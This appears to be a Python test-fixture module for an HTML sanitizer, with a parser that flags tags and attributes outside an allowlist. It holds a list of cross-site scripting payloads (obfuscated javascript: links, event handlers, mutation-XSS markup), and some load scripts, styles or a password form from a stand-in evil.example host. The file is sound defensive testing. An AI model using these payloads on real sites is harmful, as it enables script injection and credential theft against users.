# ruff: noqa: E501 - a hostile text is quoted as it is
"""What somebody might paste or post to do harm, each by a name of its own; and what harm is."""

from html.parser import HTMLParser

HOSTILE = {
    "script": "<p>Text</p><script>alert(1)</script>",
    "script_in_upper_case": "<ScRiPt SrC=//evil.example/x.js></ScRiPt><p>Text</p>",
    "script_split": "<scr<script>ipt>alert(1)</scr</script>ipt><p>Text</p>",
    "image_that_fails": '<p>Text<img src=x onerror="alert(1)"></p>',
    "image_without_spaces": "<p>Text</p><img/src=x/onerror=alert(1)//>",
    "handler_on_paragraph": '<p onclick="alert(1)" onmouseover=alert(2)>Text</p>',
    "handler_with_focus": "<p autofocus tabindex=1 onfocus=alert(1) contenteditable>Text</p>",
    "javascript_address": '<p><a href="javascript:alert(1)">Text</a></p>',
    "javascript_with_tab": '<p><a href="java\tscript:alert(1)">Text</a></p>',
    "javascript_with_newlines": '<p><a href="\n j\na\nvascript:alert(1)">Text</a></p>',
    "javascript_as_entities": (
        '<p><a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&colon;alert(1)">'
        "Text</a></p>"
    ),
    "javascript_after_control": '<p><a href="\x01javascript:alert(1)">Text</a></p>',
    "data_address": '<p><a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">T</a></p>',
    "vbscript_address": '<p><a href="vbscript:msgbox(1)">Text</a></p>',
    "blob_and_file": '<p><a href="blob:https://x/1">Text</a><a href="file:///etc/passwd">x</a></p>',
    "svg": "<svg onload=alert(1)><script>alert(2)</script><p>Text</p></svg><p>Text</p>",
    "svg_link": '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg><p>Text</p>',
    "math_with_style": (
        "<p>Text</p><math><mtext><table><mglyph><style><!--</style>"
        '<img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;"></math>'
    ),
    "form_in_math": (
        "<p>Text</p><form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>"
        "</style></mglyph></form>"
    ),
    "noscript_title": '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript><p>T</p>',
    "textarea_and_title": (
        '<textarea></textarea><title></title><p id="</title><img src=x onerror=alert(1)>">Text</p>'
    ),
    "template": "<template><script>alert(1)</script></template><p>Text</p>",
    "frame": '<iframe srcdoc="<script>alert(1)</script>" src="javascript:alert(1)"></iframe><p>T</p>',
    "object_and_embed": (
        '<object data="javascript:alert(1)"></object><embed src="//evil.example/x.swf"><p>Text</p>'
    ),
    "base_and_meta": (
        '<base href="//evil.example/"><meta http-equiv="refresh" content="0;url=javascript:alert(1)">'
        '<link rel=stylesheet href="//evil.example/x.css"><p>Text</p>'
    ),
    "form_that_asks": (
        '<form action="//evil.example/"><input name=password autofocus onfocus=alert(1)>'
        "<button formaction=javascript:alert(1)>Weiter</button></form><p>Text</p>"
    ),
    "style": (
        '<style>@import "//evil.example/x.css"; body{background:url(//evil.example/x)}</style>'
        '<p style="position:fixed;inset:0;background:url(javascript:alert(1))">Text</p>'
    ),
    "comment_that_ends_early": "<!--><script>alert(1)</script>--><p>Text</p><!-- <p>",
    "broken_nesting": (
        "<p><strong><a href='https://example.org'><p><ul><li><em>Text</p></a></strong>"
        "<b <script>alert(1)</script>0<li><a href=//x onclick=alert(1)<b>x"
    ),
    "attribute_that_never_ends": '<p>Text</p><a href="https://example.org/" title="><script>alert(1)',
    "unicode_look_alikes": (
        "<p>Text ＜script＞alert(1)＜/script＞ <a href='javas\u200bcript:alert(1)'>x</a>"
        "<ſcript>alert(1)</ſcript></p>"
    ),
    "turned_direction": '<p><a href="https://evil.example/">\u202egro.elpmaxe//:sptth\u202c</a> Text</p>',
    "zero_bytes": "<p>Text</p><scr\x00ipt>alert(1)</scr\x00ipt><a href='java\x00script:alert(1)'>x</a>",
    "markup_as_text": "Text\n\nzweite Zeile mit a < b, &lt;script&gt;alert(1)&lt;/script&gt; & mehr",
}

# As Word puts it on the clipboard.
FROM_WORD = """<html xmlns:o="urn:schemas-microsoft-com:office:office"><head><style><!--
 /* Style Definitions */ p.MsoNormal {mso-style-parent:""; font-family:"Calibri"} --></style>
<!--[if gte mso 9]><xml><w:WordDocument><w:View>Normal</w:View></w:WordDocument></xml><![endif]-->
</head><body lang=DE style='tab-interval:35.4pt'><!--StartFragment-->
<h1 style='mso-list:none'><span style='color:#2F5496'>Digitale Schichtübergabe<o:p></o:p></span></h1>
<p class=MsoNormal style='margin-bottom:8.0pt'><b><span style='font-size:11.0pt'>Ausgangslage:</span></b>
<font face="Arial">Die Übergabe lief auf <i>Zetteln</i>.</font><o:p></o:p></p>
<p class=MsoNormal><o:p>&nbsp;</o:p></p>
<p class=MsoListParagraphCxSpFirst style='text-indent:-18.0pt;mso-list:l0 level1 lfo1'>
<![if !supportLists]><span style='font-family:Symbol'><span style='mso-list:Ignore'>·<span
style='font:7.0pt "Times New Roman"'>&nbsp;&nbsp;&nbsp;&nbsp;&nbsp;&nbsp; </span></span></span><![endif]>Zettel
gingen verloren<o:p></o:p></p>
<p class=MsoListParagraphCxSpLast style='text-indent:-18.0pt;mso-list:l0 level1 lfo1'>
<span style='font-family:Symbol'><span style='mso-list:Ignore'>·<span>&nbsp;&nbsp;&nbsp; </span></span></span>Niemand
las sie</p>
<p class=MsoListParagraph style='mso-list:l1 level1 lfo2'><span style='mso-list:Ignore'>1.<span>&nbsp;&nbsp;&nbsp;
</span></span>Schichtbuch einführen</p>
<p class=MsoNormal>1. Mai ist ein Feiertag. <a href="https://example.org/" target="_blank"
class="x">Mehr dazu</a></p><!--EndFragment--></body></html>"""

ALLOWED = {
    *("p", "h3", "h4", "ul", "ol", "li", "blockquote", "br", "strong", "em", "sup", "sub", "a"),
    *("table", "thead", "tbody", "tr", "th", "td"),
}


class Reading(HTMLParser):
    """All tags and attributes of a text, as a browser would meet them."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.tags: set[str] = set()
        self.attributes: set[tuple[str, str]] = set()
        self.comments: list[str] = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.add(tag)
        self.attributes |= {(name, value or "") for name, value in attrs}

    def handle_comment(self, data: str) -> None:
        self.comments.append(data)


def harm_in(html: str) -> list[object]:
    """Everything in the text that is not one of the few harmless things."""
    found = Reading(html)
    harmless_links = ("https://", "http://", "mailto:", "tel:", "/", "#")
    strange = [
        (name, value)
        for name, value in found.attributes
        if not (name == "href" and value.startswith(harmless_links))
        if (name, value) != ("rel", "noopener")
    ]
    return [*sorted(found.tags - ALLOWED), *strange, *found.comments]
